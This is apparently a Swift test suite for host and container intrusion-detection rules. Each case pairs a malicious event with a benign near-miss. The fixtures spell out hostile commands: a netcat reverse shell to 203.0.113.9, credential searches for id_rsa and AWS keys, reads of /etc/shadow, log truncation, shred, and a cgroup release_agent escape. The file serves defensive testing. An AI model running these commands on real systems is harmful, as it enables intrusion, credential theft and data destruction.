import CLayout
import Events
import TestKit

extension PublicRuleCase {
    private static let upper = UInt32(PLIMSOLL_FILE_OVERLAY.rawValue | PLIMSOLL_FILE_UPPER.rawValue)
    private static let write: UInt64 = 0o1
    private static let truncate: UInt64 = 0o1001

    private static func executed(_ scene: PublicScene, flags: UInt32, in workload: Workload?) -> EventFixture {
        let shell = scene.process("/bin/bash", in: workload)
        let process = scene.host.process("/tmp/x", parent: shell, file: EventFixtures.regularFile(flags: flags))
        return scene.exec(process)
    }

    static let stable: [PublicRuleCase] = [
        PublicRuleCase("Directory traversal monitored file read") {
            $0.open("/etc/passwd", caller: "../../etc/passwd", by: $0.process("/usr/sbin/nginx"))
        } butNot: {
            $0.open("/etc/passwd", caller: "../etc/passwd", by: $0.process("/usr/sbin/nginx"))
        },
        PublicRuleCase("Read sensitive file trusted after startup") {
            let process = $0.process("/usr/sbin/nginx")
            $0.host.time += 6_000_000_000
            return $0.open("/etc/shadow", by: process)
        } butNot: {
            $0.open("/etc/shadow", by: $0.process("/usr/sbin/nginx"))
        },
        PublicRuleCase("Read sensitive file untrusted") {
            $0.open("/etc/shadow", by: $0.process("/bin/cat"))
        } butNot: {
            $0.open("/etc/shadow", by: $0.process("/usr/bin/passwd"))
        },
        PublicRuleCase("Run shell untrusted") {
            $0.exec("/bin/sh", ["-c", "id"], below: ["/usr/sbin/nginx"])
        } butNot: {
            $0.exec("/bin/sh", ["-c", "id"], below: ["/usr/bin/ssh"])
        },
        PublicRuleCase("System user interactive") {
            $0.exec($0.process("/usr/bin/id", below: ["/usr/sbin/sshd"], uid: 1))
        } butNot: {
            $0.exec($0.process("/usr/bin/id", below: ["/usr/sbin/cron"], uid: 1))
        },
        PublicRuleCase("Terminal shell in container") {
            let shell = $0.contained("/bin/bash", below: ["/usr/bin/runc"])
            shell.task.tty = 34_816
            return $0.exec(shell)
        } butNot: {
            $0.exec($0.contained("/bin/bash", below: ["/usr/bin/runc"]))
        },
        PublicRuleCase("Netcat Remote Code Execution in Container") {
            $0.exec($0.contained("/bin/nc", ["-e", "/bin/sh", "203.0.113.9", "4444"]))
        } butNot: {
            $0.exec($0.contained("/bin/nc", ["203.0.113.9", "4444"]))
        },
        PublicRuleCase("Search Private Keys or Passwords") {
            $0.exec("/usr/bin/find", ["/", "-name", "id_rsa"])
        } butNot: {
            $0.exec("/usr/bin/find", ["/", "-name", "core"])
        },
        PublicRuleCase("Clear Log Activities") {
            $0.open("/var/log/syslog", truncate, by: $0.process("/bin/cp"))
        } butNot: {
            $0.open("/var/log/syslog", write, by: $0.process("/bin/cp"))
        },
        PublicRuleCase("Remove Bulk Data from Disk") {
            $0.exec("/usr/bin/shred", ["/data"])
        } butNot: {
            $0.exec("/bin/rm", ["/data"])
        },
        PublicRuleCase("Create Symlink Over Sensitive Files") {
            $0.host.call("symlinkat", from: "/etc/shadow", to: "/tmp/x", by: $0.process("/bin/ln"))
        } butNot: {
            $0.host.call("symlinkat", from: "/etc/hosts", to: "/tmp/x", by: $0.process("/bin/ln"))
        },
        PublicRuleCase("Create Hardlink Over Sensitive Files") {
            $0.host.call("link", from: "shadow", to: "/root/x", by: $0.process("/bin/ln", directory: "/etc"))
        } butNot: {
            $0.host.call("link", from: "shadow", to: "/root/x", by: $0.process("/bin/ln", directory: "/tmp"))
        },
        PublicRuleCase("Packet socket created in container") {
            $0.host.socket(domain: 17, kind: 3, by: $0.contained("/bin/sniff"))
        } butNot: {
            $0.host.socket(domain: 2, kind: 3, by: $0.contained("/bin/sniff"))
        },
        PublicRuleCase("Redirect STDOUT/STDIN to Network Connection in Container") {
            $0.host.dup(to: 1, ofSocketTo: (203, 0, 113, 9), port: 4_444, by: $0.contained("/bin/bash"))
        } butNot: {
            $0.host.dup(to: 5, ofSocketTo: (203, 0, 113, 9), port: 4_444, by: $0.contained("/bin/bash"))
        },
        PublicRuleCase("Linux Kernel Module Injection Detected") {
            $0.host.call("finit_module", onFile: "/tmp/x.ko", by: $0.contained("/sbin/insmod"))
        } butNot: {
            $0.host.call("finit_module", onFile: "/tmp/x.ko", by: $0.contained("/sbin/insmod", uid: 1_000))
        },
        PublicRuleCase("Debugfs Launched in Privileged Container") {
            $0.exec("/sbin/debugfs", in: PublicScene.container(privileged: true))
        } butNot: {
            $0.exec("/sbin/debugfs", in: PublicScene.container())
        },
        PublicRuleCase("Detect release_agent File Container Escapes") {
            $0.open("/cg/release_agent", write, by: $0.contained("/bin/sh"))
        } butNot: {
            $0.open("/cg/release_agent", write, by: $0.contained("/bin/sh", uid: 1_000))
        },
        PublicRuleCase("PTRACE attached to process") {
            $0.host.call("ptrace", [16, 99], by: $0.process("/usr/bin/gdb"))
        } butNot: {
            $0.host.call("ptrace", [17, 99], by: $0.process("/usr/bin/gdb"))
        },
        PublicRuleCase("PTRACE anti-debug attempt") {
            $0.host.call("ptrace", [0], by: $0.process("/tmp/x"))
        } butNot: {
            $0.host.call("ptrace", [1], by: $0.process("/tmp/x"))
        },
        PublicRuleCase("Find AWS Credentials") {
            $0.exec("/bin/grep", ["-r", "aws_secret_access_key", "/"])
        } butNot: {
            $0.exec("/bin/grep", ["-r", "secret", "/"])
        },
        PublicRuleCase("Execution from /dev/shm") {
            $0.exec("/dev/shm/x")
        } butNot: {
            $0.exec("/dev/x")
        },
        PublicRuleCase("Drop and execute new binary in container") {
            executed($0, flags: upper, in: PublicScene.container())
        } butNot: {
            executed($0, flags: upper, in: nil)
        },
        PublicRuleCase("Disallowed SSH Connection Non Standard Port") {
            $0.host.connect(to: (203, 0, 113, 9), port: 443, by: $0.process("/usr/bin/ssh"))
        } butNot: {
            $0.host.connect(to: (203, 0, 113, 9), port: 22, by: $0.process("/usr/bin/ssh"))
        },
        PublicRuleCase("Fileless execution via memfd_create") {
            executed($0, flags: UInt32(PLIMSOLL_FILE_MEMFD.rawValue), in: nil)
        } butNot: {
            executed($0, flags: 0, in: nil)
        },
    ]
}
